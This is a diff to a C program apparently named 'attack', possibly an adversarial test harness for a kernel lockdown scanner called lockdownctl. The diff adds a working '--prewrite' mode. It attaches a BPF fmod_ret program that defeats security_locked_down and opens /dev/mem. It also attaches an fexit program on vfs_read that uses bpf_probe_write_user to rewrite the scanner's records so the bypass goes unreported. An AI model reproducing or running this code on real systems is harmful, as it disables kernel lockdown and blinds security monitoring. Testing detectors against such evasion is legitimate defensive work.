@@ -23,6 +23,11 @@
  *                                    link from the ID walk (on the bpf LSM
  *                                    hook, or fmod_ret on security_bpf),
  *                                    holds both until FILE
+ *        attack --prewrite FILE      attaches one answering 1 << 32 now and
+ *                                    an fexit program on vfs_read that
+ *                                    rewrites the bypass scan's records
+ *                                    in lockdownctl's buffer, holds both
+ *                                    until FILE
  *        attack --stall-load FILE    loads one, held inside the kernel
  *                                    (after every load-time check, before
  *                                    it has an ID) until FILE exists, then
@@ -660,6 +665,118 @@ static int prehide(const char *go, const char *variant)
 	}
 	close(mem);
 	printf("PREHIDDEN %s %s dev_mem:opened\n", variant, proof);
+	fflush(stdout);
+	while (access(go, F_OK))
+		usleep(100000);
+	close(link);
+	close(prog);
+	close(bypass_link);
+	close(bypass);
+	return 0;
+}
+
+#define INSN(c, d, sr, o, i)                 \
+	((struct bpf_insn){ .code = (c),     \
+			    .dst_reg = (d),  \
+			    .src_reg = (sr), \
+			    .off = (o),      \
+			    .imm = (i) })
+
+/*
+ * Before lockdown, root attaches the bypass (fmod_ret on
+ * security_locked_down answering 1 << 32) and an fexit program on
+ * vfs_read() that, in what any read(2) returns, finds the records of the
+ * bypass scan (struct lockdown_scan_rec, by their magic) and rewrites the
+ * attach type BPF_MODIFY_RETURN to BPF_TRACE_FENTRY with
+ * bpf_probe_write_user() (loaded while nothing refuses it): every record
+ * stays, numbered as the kernel numbered it, but none names an fmod_ret
+ * program. Prints "PREWRITTEN" once /dev/mem opens with both attached,
+ * then holds them until @go exists.
+ */
+static int prewrite(const char *go)
+{
+	const __u32 rec = sizeof(struct lockdown_scan_rec);
+	const __s16 at = offsetof(struct lockdown_scan_rec, attach_type);
+	_Static_assert(sizeof(struct lockdown_scan_rec) == 32, "record");
+	const struct bpf_insn rewrite[] = {
+		/* r6 = buf (ctx[1]), r7 = returned (ctx[4]), r8 = 0 */
+		INSN(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_6, BPF_REG_1, 8, 0),
+		INSN(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_7, BPF_REG_1, 32, 0),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_8, 0, 0, 0),
+		/* 3, loop: while r8 <= 32 KiB and r8 + rec <= returned */
+		INSN(BPF_JMP | BPF_JGT | BPF_K, BPF_REG_8, 0, 24, 32768),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_9, BPF_REG_8, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_9, 0, 0, rec),
+		INSN(BPF_JMP | BPF_JSGT | BPF_X, BPF_REG_9, BPF_REG_7, 21, 0),
+		/* the record at buf + r8, to fp - 32 */
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_1, BPF_REG_10, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, -32),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_2, 0, 0, rec),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_3, BPF_REG_6, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_X, BPF_REG_3, BPF_REG_8, 0, 0),
+		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_user),
+		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, 14, 0),
+		/* 14: a scan record naming an fmod_ret program? */
+		INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_2, BPF_REG_10, -32, 0),
+		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_2, 0, 10,
+		     LOCKDOWN_SCAN_MAGIC),
+		INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_2, BPF_REG_10, -32 + at,
+		     0),
+		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_2, 0, 8,
+		     BPF_MODIFY_RETURN),
+		/* 18: then it names an fentry one */
+		INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -4,
+		     BPF_TRACE_FENTRY),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_1, BPF_REG_6, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_X, BPF_REG_1, BPF_REG_8, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, at),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_10, 0, 0),
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, -4),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_3, 0, 0, 4),
+		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_write_user),
+		/* 26, next */
+		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_8, 0, 0, rec),
+		INSN(BPF_JMP | BPF_JA, 0, 0, -25, 0),
+		/* 28, out */
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
+		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
+	};
+	static char vlog[1 << 16];
+	int bypass, bypass_link, prog, link, mem;
+
+	bypass = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
+				BPF_MODIFY_RETURN, 1ULL << 32);
+	bypass_link = bypass < 0 ? -1
+				 : bpf_link_create(bypass, 0, BPF_MODIFY_RETURN,
+						   NULL);
+	if (bypass_link < 0) {
+		perror("attack: the fmod_ret program on security_locked_down");
+		return 2;
+	}
+	prog = load_on_log("rt_rewrite", "vfs_read", BPF_PROG_TYPE_TRACING,
+			   BPF_TRACE_FEXIT, rewrite,
+			   sizeof(rewrite) / sizeof(rewrite[0]), NULL, 0, 0);
+	if (prog < 0) {
+		load_on_log("rt_rewrite", "vfs_read", BPF_PROG_TYPE_TRACING,
+			    BPF_TRACE_FEXIT, rewrite,
+			    sizeof(rewrite) / sizeof(rewrite[0]), vlog,
+			    sizeof(vlog), 1);
+		perror("attack: loading the fexit program on vfs_read");
+		fprintf(stderr, "%.2000s\n", vlog);
+		return 2;
+	}
+	link = bpf_link_create(prog, 0, BPF_TRACE_FEXIT, NULL);
+	if (link < 0) {
+		perror("attack: attaching the fexit program on vfs_read");
+		return 2;
+	}
+	mem = open("/dev/mem", O_RDONLY);
+	if (mem < 0) {
+		perror("attack: /dev/mem with the bypass attached");
+		return 2;
+	}
+	close(mem);
+	printf("PREWRITTEN fmod_ret:attached fexit_vfs_read:attached dev_mem:opened\n");
 	fflush(stdout);
 	while (access(go, F_OK))
 		usleep(100000);
@@ -2280,6 +2397,8 @@ int main(int argc, char **argv)
 		return preload(argv[2], 1);
 	if (argc == 4 && !strcmp(argv[1], "--prehide"))
 		return prehide(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "--prewrite"))
+		return prewrite(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "--stall-load"))
 		return stall_load(argv[2]);
 	if (argc == 2 && !strcmp(argv[1], "--override-return"))
